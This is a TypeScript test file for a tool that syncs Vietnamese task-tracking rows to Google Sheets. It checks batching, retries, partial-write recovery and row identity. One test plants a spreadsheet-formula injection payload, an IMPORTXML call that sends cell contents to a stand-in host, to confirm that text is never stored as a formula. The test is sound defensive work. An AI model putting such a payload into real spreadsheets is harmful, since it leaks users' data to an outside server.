/**
 * The Sheets store under the API's limits: constant request counts whatever the
 * number of rows, 2 MB bodies, 429/5xx retried with backoff, a failed write
 * leaving the sheet as it was, text never turned into formulas, rows found by
 * identity after officials insert rows.
 */
import { createServer, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { sheetsAuth } from '../../sync/sheets/auth';
import { sheetsApi } from '../../sync/sheets/client';
import { ROW_TAG_BUDGET } from '../../sync/sheets/sheet-writer';
import { SheetsStore } from '../../sync/sheets/sheets-store';
import { columnLetter, TASKS_TAB, type Row } from '../../core/index';
import { sampleTables } from '../../sync/catalog/sample';
import { CchcError } from '../../sync/errors';
import { manyTasks } from '../fixtures/many-tasks';
import { seedSheet, useSheetsEmulator, type EmulatedSheets } from './emulated-sheet';

const emulated = useSheetsEmulator();
const TWO_MB = 2 * 1024 * 1024;

async function sheetWith(sheets: EmulatedSheets, tasks: Row[]): Promise<string> {
  const id = sheets.emu.createSpreadsheet('CCHC');
  const tables = await sampleTables();
  await sheets.store(id).create({ ...tables, tasks });
  sheets.emu.resetCounts();
  return id;
}

describe('Sheets store limits', () => {
  it('a push of 1 or of 5,000 tasks takes the same requests: one read, one write, one read to check it', async () => {
    const sample = (await sampleTables())['tasks']!;
    const counts = [];
    for (const size of [1, 5_000]) {
      const sheets = await emulated();
      const tasks = manyTasks(sample, size);
      const id = await sheetWith(sheets, tasks);
      const store = sheets.store(id);
      const read = await store.read();
      expect(read['tasks']).toHaveLength(size);
      const changed = tasks.map((t, i) => (i === size - 1 ? { ...t, note: 'Cập nhật tuần 47', progress: 37 } : t));
      const result = await store.apply({ tasks: changed }, new Map([['tasks', new Map(tasks.map((t) => [String(t['id']), t]))]]));
      expect(result.plan.updatedCells).toBe(2);
      counts.push(sheets.emu.counts());
    }
    expect(counts[0]).toMatchObject({ reads: 3, writes: 1 });
    expect(counts[1]).toEqual(counts[0]);
  }, 120_000);

  it('the first push of 5,000 tasks fits the 2 MB body limit in a few whole-row batches', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!;
    const id = sheets.emu.createSpreadsheet('CCHC');
    const result = await sheets.store(id).apply({ tasks: manyTasks(sample, 5_000) }, new Map());
    const writes = sheets.emu.requestLog.filter((r) => r.kind === 'write');
    expect(writes.length).toBe(result.plan.batches.length);
    expect(writes.length).toBeLessThanOrEqual(5);
    for (const w of writes) expect(w.bodyBytes).toBeLessThan(TWO_MB);
    expect(writes.every((w) => w.status === 200)).toBe(true);
    expect((await sheets.store(id).read())['tasks']).toHaveLength(5_000);
    // Row tags stop at the metadata budget; the rest are found by their id cell.
    const tags = sheets.emu.getSpreadsheet(id).developerMetadata;
    const chars = tags.reduce((sum, m) => sum + m.metadataKey.length + (m.metadataValue ?? '').length, 0);
    expect(tags.length).toBeGreaterThan(100);
    expect(tags.length).toBeLessThan(5_000);
    expect(chars).toBeLessThanOrEqual(ROW_TAG_BUDGET);
  }, 120_000);

  it('a large push cut off between batches says so, and a re-run finishes it without writing a row twice', async () => {
    const sheets = await emulated();
    const tasks = manyTasks((await sampleTables())['tasks']!, 5_000);
    const id = sheets.emu.createSpreadsheet('CCHC');
    let writes = 0;
    sheets.emu.injectFailures([{ match: (r) => r.operation === 'spreadsheets.batchUpdate' && ++writes >= 3, status: 503, times: 100 }]);
    const error = await sheets.store(id).apply({ tasks }, new Map()).catch((e: unknown) => e);
    expect((error as CchcError).code).toBe('SHEETS_PARTIAL_WRITE');
    expect((error as CchcError).messageVi).toContain('Đã ghi trọn 2 phần');
    const partial = (await sheets.store(id).read())['tasks']!;
    expect(partial.length).toBeGreaterThan(0);
    expect(partial.length).toBeLessThan(5_000);
    sheets.emu.clearFailures();
    await sheets.store(id).apply({ tasks }, new Map());
    const ids = (await sheets.store(id).read())['tasks']!.map((t) => t['id']);
    expect(ids).toEqual(tasks.map((t) => t['id']));
  }, 120_000);

  it('a write Google applied before its answer was lost is not repeated on retry', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!;
    const id = await sheetWith(sheets, sample.slice(0, 3));
    const store = sheets.store(id);
    const read = await store.read();
    let lost = false;
    sheets.emu.injectFailures([
      {
        // Google commits the batch, then the response never arrives.
        match: (r) => {
          if (r.operation !== 'spreadsheets.batchUpdate' || lost) return false;
          lost = true;
          sheets.emu.batchUpdate(id, (r.body as { requests: Parameters<typeof sheets.emu.batchUpdate>[1] }).requests);
          return true;
        },
        status: 503,
        times: 1,
      },
    ]);
    const outcome = await store.write({ tasks: [...read['tasks']!.map((t) => ({ ...t, progress: 10 })), ...sample.slice(3, 5)] });
    expect(outcome.conflicts).toEqual([]);
    const after = (await store.read())['tasks']!;
    expect(after.map((t) => t['id'])).toEqual(sample.slice(0, 5).map((t) => t['id']));
    expect(after.slice(0, 3).map((t) => t['progress'])).toEqual([10, 10, 10]);
  });

  it('a retry writes to the row where the task now is, after an official moved it meanwhile', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!.slice(0, 3);
    const id = await sheetWith(sheets, sample);
    const store = sheets.store(id);
    const read = await store.read();
    const sheetId = sheets.emu.getSpreadsheet(id).sheets.find((s) => s.properties.title === TASKS_TAB.name)!.properties.sheetId;
    let moved = false;
    sheets.emu.injectFailures([
      {
        match: (r) => {
          if (r.operation !== 'spreadsheets.batchUpdate' || moved) return false;
          moved = true;
          sheets.emu.batchUpdate(id, [{ moveDimension: { source: { sheetId, dimension: 'ROWS', startIndex: 1, endIndex: 2 }, destinationIndex: 4 } }]);
          return true;
        },
        status: 503,
        times: 1,
      },
    ]);
    const first = String(sample[0]!['id']);
    await store.write({ tasks: read['tasks']!.map((t) => (t['id'] === first ? { ...t, note: 'sửa tại máy' } : t)) });
    const after = (await store.read())['tasks']!;
    expect(after.map((t) => t['id'])).toEqual([sample[1]!['id'], sample[2]!['id'], first]);
    expect(after.map((t) => t['note'] || null)).toEqual([sample[1]!['note'] || null, sample[2]!['note'] || null, 'sửa tại máy']);
  });

  it('many changed cells are split under 2 MB too', async () => {
    const sheets = await emulated();
    const tasks = manyTasks((await sampleTables())['tasks']!, 3_000);
    const id = await sheetWith(sheets, tasks);
    const long = 'Đã hoàn thành, có văn bản báo cáo kèm theo. '.repeat(10);
    const edited = tasks.map((t, i) => ({ ...t, note: `${long}${i}`, evidence: `https://drive.google.com/file/d/${'x'.repeat(40)}${i}/view` }));
    const result = await sheets.store(id).apply({ tasks: edited }, new Map([['tasks', new Map(tasks.map((t) => [String(t['id']), t]))]]));
    const writes = sheets.emu.requestLog.filter((r) => r.kind === 'write');
    expect(writes.length).toBeGreaterThan(1);
    for (const w of writes) expect(w.bodyBytes).toBeLessThan(TWO_MB);
    expect(writes.every((w) => w.status === 200)).toBe(true);
    expect(result.plan.updatedCells).toBe(6_000);
    const back = (await sheets.store(id).read())['tasks']!;
    expect(back[2_999]!['note']).toBe(`${long}2999`);
  }, 120_000);

  it('retries 429 and 503 with backoff, honouring Retry-After, then writes once', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!;
    const id = await sheetWith(sheets, sample.slice(0, 3));
    sheets.emu.injectFailures([
      { match: { operation: 'spreadsheets.get' }, status: 503, times: 1 },
      { match: { operation: 'spreadsheets.batchUpdate' }, status: 429, times: 2, retryAfterSeconds: 7 },
    ]);
    const store = sheets.store(id);
    await store.read();
    const outcome = await store.write({ tasks: sample.slice(0, 4) });
    expect(outcome.conflicts).toEqual([]);
    expect(sheets.slept[0]).toBeGreaterThanOrEqual(1000); // 2^0 s + jitter
    expect(sheets.slept[0]).toBeLessThan(2000);
    expect(sheets.slept.slice(1)).toEqual([7000, 7000]);
    const statuses = sheets.emu.requestLog.filter((r) => r.kind === 'write').map((r) => r.status);
    expect(statuses).toEqual([429, 429, 200]);
    expect((await store.read())['tasks']).toHaveLength(4);
  });

  it('retries a dropped connection (ECONNRESET) as the real client reports it', async () => {
    const sheets = await emulated();
    const id = seedSheet(sheets.emu, 'CCHC', { tasks: (await sampleTables())['tasks']!.slice(0, 2) });
    // A proxy in front of the emulator that hangs up on the first request, as a flaky network does.
    let dropped = 0;
    const target = new URL(sheets.emu.url);
    const proxy = createServer((req, res) => {
      if (dropped++ === 0) return req.socket.destroy();
      const upstream = httpRequest({ host: target.hostname, port: target.port, path: req.url, method: req.method, headers: req.headers }, (up) => {
        res.writeHead(up.statusCode ?? 502, up.headers);
        up.pipe(res);
      });
      req.pipe(upstream);
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    try {
      const env = { ...sheets.env, CCHC_SHEETS_API_URL: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}` };
      const slept: number[] = [];
      const store = new SheetsStore(id, async () => sheetsApi(await sheetsAuth({ env }), env), { sleep: async (ms) => void slept.push(ms) });
      expect((await store.read())['tasks']).toHaveLength(2);
      expect(slept).toHaveLength(1);
      expect(sheets.emu.counts().reads).toBe(1);
    } finally {
      proxy.close();
    }
  });

  it('gives up after the last retry with a Vietnamese message, leaving the sheet exactly as it was', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!;
    const id = await sheetWith(sheets, sample.slice(0, 5));
    const before = structuredClone(sheets.emu.getSpreadsheet(id));
    sheets.emu.injectFailures([{ match: { operation: 'spreadsheets.batchUpdate' }, status: 500, times: 100 }]);
    const store = sheets.store(id);
    const tables = await store.read();
    const edited = tables['tasks']!.map((t) => ({ ...t, progress: 50 }));
    const error = await store.write({ tasks: [...edited, ...sample.slice(5, 9)] }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CchcError);
    expect((error as CchcError).code).toBe('SHEETS_UNAVAILABLE');
    expect((error as CchcError).messageVi).toContain('Bảng tính không có dòng nào ghi dở');
    expect(sheets.slept.length).toBe(5);
    expect(sheets.emu.getSpreadsheet(id)).toEqual(before);
  });

  it('writes text as text: a title starting with "=" never becomes a formula', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!;
    const id = await sheetWith(sheets, []);
    const evil = { ...sample[0]!, title: '=IMPORTXML("http://x.example/?"&A1,"//a")', note: '+1+1' };
    await sheets.store(id).apply({ tasks: [evil] }, new Map());
    const formulas = sheets.emu.getValues(id, `'${TASKS_TAB.name}'!A2:Q2`, { valueRenderOption: 'FORMULA' })[0]!;
    expect(formulas).toContain('=IMPORTXML("http://x.example/?"&A1,"//a")');
    const cell = sheets.emu.getSpreadsheet(id).sheets.find((s) => s.properties.title === TASKS_TAB.name)!.rows[1]!;
    expect(cell.filter((c) => c?.userEnteredValue && 'formulaValue' in (c.userEnteredValue as object))).toEqual([]);
  });

  it('finds rows by id after officials insert and move rows, and by row metadata after an id cell is cleared', async () => {
    const sheets = await emulated();
    const sample = (await sampleTables())['tasks']!.slice(0, 4);
    const id = await sheetWith(sheets, sample);
    const sheetId = sheets.emu.getSpreadsheet(id).sheets.find((s) => s.properties.title === TASKS_TAB.name)!.properties.sheetId;
    sheets.emu.batchUpdate(id, [
      { insertDimension: { range: { sheetId, dimension: 'ROWS', startIndex: 1, endIndex: 3 } } },
      { moveDimension: { source: { sheetId, dimension: 'ROWS', startIndex: 6, endIndex: 7 }, destinationIndex: 3 } },
    ]);
    sheets.emu.setValues(id, `'${TASKS_TAB.name}'!A2`, [['Dòng cán bộ tự thêm']]);
    const store = sheets.store(id);
    const tables = await store.read();
    const lastId = String(sample[3]!['id']);
    const moved = tables['tasks']!.find((t) => t['id'] === lastId)!;
    expect(moved['_row']).toBe(4);
    // Clear the id cell of the moved task: its row metadata still says which task it is.
    sheets.emu.setValues(id, `'${TASKS_TAB.name}'!A4`, [['']]);
    await store.write({ tasks: sample.map((t) => (t['id'] === lastId ? { ...t, note: 'cập nhật' } : t)) });
    const note = TASKS_TAB.columns.findIndex((c) => c.key === 'note');
    const row = sheets.emu.getValues(id, `'${TASKS_TAB.name}'!A4:${columnLetter(note)}4`)[0]!;
    expect(row[0] ?? '').toBe('');
    expect(row[note]).toBe('cập nhật');
    expect(sheets.emu.getValues(id, `'${TASKS_TAB.name}'!A2`)).toEqual([['Dòng cán bộ tự thêm']]);
  });
});

describe('Sheets store on a sheet an official set up by hand', () => {
  it('fills a tab with only a header row (grid of one row), in the official\'s column order, adding missing columns at the end', async () => {
    const sheets = await emulated();
    const id = sheets.emu.createSpreadsheet('CCHC', [{ title: TASKS_TAB.name, rowCount: 1, columnCount: 3 }]);
    sheets.emu.setValues(id, `'${TASKS_TAB.name}'!A1`, [['Nội dung nhiệm vụ', 'Ghi chú riêng', 'Mã nhiệm vụ']]);
    const sample = (await sampleTables())['tasks']!.slice(0, 3);
    await sheets.store(id).apply({ tasks: sample }, new Map());
    const grid = sheets.emu.getValues(id, `'${TASKS_TAB.name}'`) as string[][];
    expect(grid[0]!.slice(0, 4)).toEqual(['Nội dung nhiệm vụ', 'Ghi chú riêng', 'Mã nhiệm vụ', 'Kế hoạch']);
    expect(grid.slice(1).map((r) => [r[0], r[1] ?? '', r[2]])).toEqual(sample.map((t) => [t['title'], '', t['id']]));
    const back = (await sheets.store(id).read())['tasks']!;
    expect(back.map((t) => [t['id'], t['lead'], t['deadline']])).toEqual(sample.map((t) => [t['id'], t['lead'], t['deadline']]));
  });
});
